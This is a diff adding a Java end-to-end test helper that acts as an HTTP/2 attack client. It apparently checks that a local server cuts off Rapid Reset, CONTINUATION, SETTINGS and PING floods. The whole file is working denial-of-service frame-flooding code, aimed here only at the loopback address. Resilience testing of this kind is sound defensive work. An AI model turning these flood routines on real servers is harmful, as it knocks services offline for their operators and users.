@@ -1,0 +1,179 @@
+package io.gatehouse.e2e;
+
+import java.io.ByteArrayOutputStream;
+import java.io.DataInputStream;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.InetAddress;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.concurrent.locks.LockSupport;
+import javax.net.ssl.SSLContext;
+import javax.net.ssl.SSLSocket;
+
+/** A client of HTTP/2 that sends nothing but one kind of frames, as many as it is let, and comes back when it is cut off. */
+final class Http2Attack implements AutoCloseable {
+
+    private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+    private static final int HEADERS = 1;
+    private static final int RST_STREAM = 3;
+    private static final int SETTINGS = 4;
+    private static final int PING = 6;
+    private static final int GO_AWAY = 7;
+    private static final int CONTINUATION = 9;
+    private static final int END_STREAM = 1;
+    private static final int END_HEADERS = 4;
+    private static final int PIECE = 16 << 10;
+
+    // Each new connection costs both sides a handshake, which is not what is measured here.
+    private static final long PAUSE = TimeUnit.MILLISECONDS.toNanos(200);
+
+    /** What is sent. */
+    enum Kind {
+        RAPID_RESET,
+        CONTINUATIONS,
+        SETTINGS_FLOOD,
+        PINGS
+    }
+
+    private final SSLContext trust;
+    private final int port;
+    private final Kind kind;
+    private final AtomicInteger cutOff = new AtomicInteger();
+    private final Thread thread;
+    private volatile boolean over;
+    private volatile SSLSocket socket;
+
+    Http2Attack(SSLContext trust, int port, Kind kind) {
+        this.trust = trust;
+        this.port = port;
+        this.kind = kind;
+        this.thread = Thread.ofPlatform().start(this::run);
+    }
+
+    /** How many of its connections the other side has ended. */
+    int cutOff() {
+        return cutOff.get();
+    }
+
+    Kind kind() {
+        return kind;
+    }
+
+    @Override
+    public void close() throws IOException {
+        over = true;
+        if (socket != null) {
+            socket.close();
+        }
+        try {
+            thread.join();
+        } catch (InterruptedException interrupt) {
+            Thread.currentThread().interrupt();
+        }
+    }
+
+    private void run() {
+        while (!over) {
+            try {
+                attack();
+            } catch (IOException closed) {
+                // As it should be.
+                cutOff.incrementAndGet();
+            }
+            LockSupport.parkNanos(PAUSE);
+        }
+    }
+
+    private void attack() throws IOException {
+        try (var own = (SSLSocket) trust.getSocketFactory().createSocket(InetAddress.getLoopbackAddress(), port)) {
+            socket = own;
+            var parameters = own.getSSLParameters();
+            parameters.setApplicationProtocols(new String[] {"h2"});
+            own.setSSLParameters(parameters);
+            own.startHandshake();
+            var reader = Thread.ofVirtual().start(() -> read(own));
+            flood(own.getOutputStream());
+            reader.interrupt();
+        }
+    }
+
+    // What it is told it does not heed, but to be told that it is over.
+    private void read(SSLSocket from) {
+        try (from) {
+            var in = new DataInputStream(from.getInputStream());
+            for (int type = -1; type != GO_AWAY; ) {
+                int length = (in.readUnsignedByte() << 16) | in.readUnsignedShort();
+                type = in.readUnsignedByte();
+                in.skipNBytes(5L + length);
+            }
+        } catch (IOException closed) {
+            return;
+        }
+    }
+
+    private void flood(OutputStream out) throws IOException {
+        out.write(PREFACE.getBytes(StandardCharsets.US_ASCII));
+        out.write(frame(SETTINGS, 0, 0));
+        if (kind == Kind.CONTINUATIONS) {
+            out.write(frame(HEADERS, END_STREAM, 1, request()));
+        }
+        var piece = new ByteArrayOutputStream();
+        for (int stream = 1; !over; stream += 2) {
+            piece.writeBytes(next(stream));
+            if (piece.size() > PIECE) {
+                piece.writeTo(out);
+                piece.reset();
+            }
+        }
+    }
+
+    private byte[] next(int stream) {
+        return switch (kind) {
+            case RAPID_RESET ->
+                both(
+                        frame(HEADERS, END_STREAM | END_HEADERS, stream, request()),
+                        frame(RST_STREAM, 0, stream, (byte) 0, (byte) 0, (byte) 0, (byte) 8));
+            case CONTINUATIONS -> frame(CONTINUATION, 0, 1, field("x", "y".repeat(100)));
+            case SETTINGS_FLOOD -> frame(SETTINGS, 0, 0, (byte) 0, (byte) 4, (byte) 0, (byte) 1, (byte) 0, (byte) 0);
+            case PINGS -> frame(PING, 0, 0, new byte[8]);
+        };
+    }
+
+    private static byte[] both(byte[] one, byte[] other) {
+        return ByteBuffer.allocate(one.length + other.length).put(one).put(other).array();
+    }
+
+    private static byte[] request() {
+        var block = new ByteArrayOutputStream();
+        block.writeBytes(field(":method", "GET"));
+        block.writeBytes(field(":scheme", "https"));
+        block.writeBytes(field(":authority", "a"));
+        block.writeBytes(field(":path", "/bulk/bytes/100000"));
+        return block.toByteArray();
+    }
+
+    // A literal that goes into no table (RFC 7541 section 6.2.2).
+    private static byte[] field(String name, String value) {
+        return ByteBuffer.allocate(3 + name.length() + value.length())
+                .put((byte) 0)
+                .put((byte) name.length())
+                .put(name.getBytes(StandardCharsets.US_ASCII))
+                .put((byte) value.length())
+                .put(value.getBytes(StandardCharsets.US_ASCII))
+                .array();
+    }
+
+    private static byte[] frame(int type, int flags, int stream, byte... payload) {
+        return ByteBuffer.allocate(9 + payload.length)
+                .put((byte) (payload.length >> 16))
+                .putShort((short) payload.length)
+                .put((byte) type)
+                .put((byte) flags)
+                .putInt(stream)
+                .put(payload)
+                .array();
+    }
+}
